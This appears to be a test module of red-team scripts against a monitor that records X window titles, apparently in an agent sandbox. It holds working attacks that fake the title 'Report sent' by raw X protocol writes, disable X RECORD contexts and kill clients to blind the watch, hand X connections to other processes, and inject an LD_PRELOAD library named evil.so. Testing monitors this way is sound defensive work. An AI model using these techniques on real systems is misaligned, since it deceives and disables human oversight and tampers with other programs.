"""Scripts of the red team that are after the titles of windows; `test_red_team` plays them."""

from __future__ import annotations

import base64
import tempfile
from pathlib import Path

import pytest

from appliance.base import process

NO_TOOL = "red team: tool missing"

# The X protocol by hand, for who has no library of it: a connection, and what the attacks need of it.
WIRE = r"""
cat > wire.py << 'END'
import os, socket, struct, subprocess, sys, time
def cookie():
    if not os.environ.get("XAUTHORITY"):
        return b""
    try:
        with open(os.environ["XAUTHORITY"], "rb") as file:
            data = file.read()
    except OSError:
        return b""
    at = data.find(b"MIT-MAGIC-COOKIE-1")
    return data[at + 20:at + 36] if at >= 0 else b""
class Wire:
    def __init__(self):
        self.link = socket.socket(socket.AF_UNIX)
        number = os.environ["DISPLAY"].split(":")[1].split(".")[0]
        self.link.connect("/tmp/.X11-unix/X" + number)
        key = cookie()
        name = b"MIT-MAGIC-COOKIE-1" if key else b""
        self.link.sendall(struct.pack("<BxHHHH2x", 0x6C, 11, 0, len(name), len(key))
                          + name + bytes(-len(name) % 4) + key)
        head = self.get(8)
        assert head[0] == 1, "the server refuses"
        body = self.get(4 * struct.unpack("<H", head[6:])[0])
        self.base, self.mask = struct.unpack_from("<II", body, 4)
        vendor, formats = struct.unpack_from("<H", body, 16)[0], body[21]
        self.root = struct.unpack_from("<I", body, 32 + (vendor + 3) // 4 * 4 + 8 * formats)[0]
    def get(self, count):
        data = b""
        while len(data) < count:
            more = self.link.recv(count - len(data))
            if not more:
                raise EOFError
            data += more
        return data
    def send(self, opcode, detail, body):
        body += bytes(-len(body) % 4)
        self.link.sendall(struct.pack("<BBH", opcode, detail, 1 + len(body) // 4) + body)
    def reply(self):
        while True:
            head = self.get(32)
            if head[0] == 1:
                return head + self.get(4 * struct.unpack_from("<I", head, 4)[0])
    def atom(self, name):
        self.send(16, 0, struct.pack("<H2x", len(name)) + name.encode())
        return struct.unpack_from("<I", self.reply(), 8)[0]
    def extension(self, name):
        self.send(98, 0, struct.pack("<H2x", len(name)) + name.encode())
        return self.reply()[9]
    def write(self, window, name, text, mode=0):
        for prop, kind in ((self.atom("_NET_WM_NAME"), self.atom("UTF8_STRING")), (39, 31)):
            self.send(18, mode, struct.pack("<IIIB3xI", window, prop, kind, 8, len(text)) + text)
    def sync(self):
        self.send(43, 0, b"")
        self.reply()
def targets(of):
    said = subprocess.run(["xdotool", "search", "--class", of], stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL).stdout
    return [int(one) for one in said.split()]
END
"""

# A right program is there, a plain one of each desktop, with a title of its own.
RIGHT = """
start_right() {
    for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
    case $name in
        zenity) zenity --info --text hello --title Before;;
        *) $name;;
    esac > /dev/null 2>&1 &
    for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do
        [ -n "$(xdotool search --onlyvisible --class $name)" ] && break
        sleep 1
    done 2> /dev/null
    sleep 1
}
command -v python3 > /dev/null && command -v xdotool > /dev/null || { echo NO_TOOL; exit 0; }
""".replace("NO_TOOL", NO_TOOL)

RENAME = (
    WIRE
    + RIGHT
    + """
start_right
for id in $(xdotool search --class $name); do
    xdotool set_window --name 'Report sent' $id
    command -v xprop > /dev/null && xprop -id $id -f _NET_WM_NAME 8u -set _NET_WM_NAME 'Report sent'
done > /dev/null 2>&1
cat > rename.py << 'END'
from wire import *
wire = Wire()
for window in targets(sys.argv[1]):
    wire.write(window, "", b"Report ")
    wire.write(window, "", b"sent", 2)
wire.sync()
time.sleep(600)
END
PYTHONPATH=. setsid python3 rename.py $name > /dev/null 2>&1 &
sleep 2
"""
)

# Every identifier that a watch may have made is named, to each request that could end it.
BLIND = (
    WIRE
    + RIGHT
    + """
start_right
cat > blind.py << 'END'
from wire import *
def say(*words):
    with open("blinded", "a") as file:
        print(*words, file=file)
def contexts(wire, record):
    for slot in range(64):
        for number in range(16):
            one = slot * (wire.mask + 1) + number
            if one & ~wire.mask != wire.base:
                wire.send(record, 4, struct.pack("<I", one))
                head = wire.get(32)
                if head[0] == 1:
                    wire.get(4 * struct.unpack_from("<I", head, 4)[0])
                    yield one
def bodies(one):
    # Unregister all clients; register them for nothing; disable; free.
    none = struct.pack("<III", one, 1, 3)
    return {3: none, 2: struct.pack("<IB3xIII24x", one, 0, 1, 1, 3), 6: none[:4], 7: none[:4]}
title, name = b"Report sent", sys.argv[1]
for step in (3, 2, 6, 7, "kill", "grab"):
    wire = Wire()
    record = wire.extension("RECORD")
    found = []
    for one in contexts(wire, record):
        found.append(one)
        if step == "kill":
            wire.send(113, 0, struct.pack("<I", one))
        elif step in (2, 3, 6, 7):
            wire.send(record, step, bodies(one)[step])
    say(step, len(found))
    for window in targets(name):
        wire.write(window, "", title)
    wire.sync()
    if step == "grab":
        wire.send(36, 0, b"")
        time.sleep(3)
        wire.send(37, 0, b"")
    time.sleep(2.5)
say("done")
END
PYTHONPATH=. setsid python3 blind.py $name > blind.log 2>&1 &
"""
)

# The server knows a client by the process that connected. That one becomes the right program, and
# another one, or nobody, keeps the connection.
HANDED_DOWN = (
    WIRE
    + RIGHT
    + """
cat > handed.py << 'END'
from wire import *
name, keeps = sys.argv[1:]
wire = Wire()
window = wire.base | 1
wire.send(1, 0, struct.pack("<IIhhHHHHII", window, wire.root, 0, 0, 99, 99, 0, 1, 0, 0))
text = name.encode() + bytes(1) + name.capitalize().encode() + bytes(1)
wire.send(18, 0, struct.pack("<IIIB3xI", window, 67, 31, 8, len(text)) + text)
wire.write(window, "", b"Report sent")
wire.send(8, 0, struct.pack("<I", window))
wire.sync()
os.set_inheritable(wire.link.fileno(), keeps == "itself")
if keeps == "another" and os.fork() == 0:
    time.sleep(600)
os.execvp(name, [name] + (["--info", "--text", "x"] if name == "zenity" else []))
END
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
for keeps in another itself; do
    PYTHONPATH=. setsid python3 handed.py $name $keeps > handed-$keeps.log 2>&1 &
done
sleep 4
"""
)

# Code of the agent's in the right program: it gives the program's own windows another title.
PRELOADED = r"""
#include <dlfcn.h>
#include <string.h>
#define TITLE "Report sent"
static void *screen;
static unsigned long windows[16];
static int count, calls;
static void keep(void *display, unsigned long window)
{
    screen = display;
    windows[count++ % 16] = window;
}
int XMapWindow(void *display, unsigned long window)
{
    keep(display, window);
    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapWindow"))(display, window);
}
int XMapRaised(void *display, unsigned long window)
{
    keep(display, window);
    return ((int (*)(void *, unsigned long))dlsym(RTLD_NEXT, "XMapRaised"))(display, window);
}
int XPending(void *display)
{
    unsigned long (*atom)(void *, const char *, int) = dlsym(RTLD_NEXT, "XInternAtom");
    int (*change)(void *, unsigned long, unsigned long, unsigned long, int, int, const void *, int) =
        dlsym(RTLD_NEXT, "XChangeProperty");
    if (display == screen && calls++ % 10 == 0)
        for (int i = 0; i < count && i < 16; i++) {
            change(display, windows[i], atom(display, "_NET_WM_NAME", 0),
                   atom(display, "UTF8_STRING", 0), 8, 0, TITLE, strlen(TITLE));
            change(display, windows[i], 39, 31, 8, 0, TITLE, strlen(TITLE));
        }
    return ((int (*)(void *))dlsym(RTLD_NEXT, "XPending"))(display);
}
"""

PRELOAD_RIGHT = (
    RIGHT
    + """
# Code from some file systems is not to be executed: a container's home folder and /tmp.
for folder in "$HOME" /var/tmp /tmp /dev/shm "$XDG_RUNTIME_DIR"; do
    cp /bin/true $folder/red-try 2> /dev/null && $folder/red-try 2> /dev/null && break
done
$folder/red-try 2> /dev/null || { rm -f $folder/red-try; echo NO_TOOL; exit 0; }
base64 -d > $folder/evil.so << END
LIBRARY
END
export LD_PRELOAD=$folder/evil.so
start_right
unset LD_PRELOAD
sleep 1
grep -l 'x.*evil.so' /proc/[0-9]*/maps
rm -f $folder/evil.so $folder/red-try
""".replace("NO_TOOL", NO_TOOL)
)

TERMINAL = r"""
for name in gnome-terminal xterm; do
    command -v $name > /dev/null || continue
    case $name in
        xterm) setsid xterm -e sh -c 'printf "\033]0;Report sent\007"; sleep 600';;
        *) setsid gnome-terminal -- sh -c 'printf "\033]0;Report sent\007"; sleep 600';;
    esac > /dev/null 2>&1 &
done
sleep 3
"""


def library() -> str:
    """Build what is preloaded, with this host's compiler; give it in base64."""
    if process.find_tool("gcc") is None:
        pytest.skip("needs gcc, to build what is preloaded")
    with tempfile.TemporaryDirectory(prefix="mesocosm-red-") as name:
        source, built = Path(name, "evil.c"), Path(name, "evil.so")
        source.write_text(f"#define _GNU_SOURCE\n{PRELOADED}")
        done = process.run(
            ["gcc", "-shared", "-fPIC", "-O1", "-o", str(built), str(source), "-ldl"]
        )
        assert done.exit_code == 0, done
        return base64.encodebytes(built.read_bytes()).decode()
